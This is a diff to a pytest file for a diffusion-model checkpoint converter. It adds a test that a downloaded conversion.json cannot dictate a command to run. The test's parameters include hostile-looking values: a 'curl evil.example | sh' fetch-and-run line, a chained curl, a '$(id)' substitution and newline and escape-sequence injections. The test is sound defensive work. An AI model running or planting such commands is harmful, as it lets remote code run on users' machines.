@@ -1,5 +1,6 @@
 """What a conversion touches: files on its own list of names, whatever else the source and the target hold."""
 
+import json
 import os
 from pathlib import Path
 
@@ -125,3 +126,14 @@ def test_hidden_files_are_no_weights(hidden: str) -> None:
     assert weight_names([hidden, *shards], dict, "folder") == shards
     with pytest.raises(CheckpointError, match="has no safetensors file, so no weights"):
         weight_names([hidden, "._model.bin"], dict, "folder")
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl evil.example | sh", "mlx-diffusion convert a b; curl x", "mlx-diffusion convert $(id) b",
+     "mlx-diffusion convert a\nb", "mlx-diffusion convert 'a", "mlx-diffusion generate x", "mlx-diffusion convert a\x1b[2J b", 7, None],
+)  # fmt: skip
+def test_a_downloaded_record_dictates_no_command(command: object, source: Path) -> None:
+    (source / "conversion.json").write_text(json.dumps({"command": command}))
+    with pytest.raises(CheckpointError, match="to go on, run: the same `mlx-diffusion convert` again$"):
+        Checkpoint.open(source)
